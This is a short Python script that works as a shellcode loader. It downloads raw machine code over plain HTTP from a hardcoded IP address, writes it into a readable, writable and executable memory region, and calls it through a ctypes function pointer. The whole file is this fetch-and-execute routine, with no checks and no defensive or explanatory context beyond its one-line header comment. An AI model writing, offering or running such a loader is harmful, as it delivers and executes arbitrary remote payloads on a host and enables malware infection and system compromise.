# Downloads raw machine code, maps it into an executable mmap region and calls it through a ctypes function pointer.
import ctypes
import mmap
import urllib.request

URL = "http://203.0.113.99/sc.bin"


def fetch():
    return urllib.request.urlopen(URL, timeout=10).read()


def run(code: bytes):
    prot = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    buf = mmap.mmap(-1, len(code), flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=prot)
    buf.write(code)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    func = ctypes.CFUNCTYPE(ctypes.c_int)(addr)
    return func()


if __name__ == "__main__":
    run(fetch())
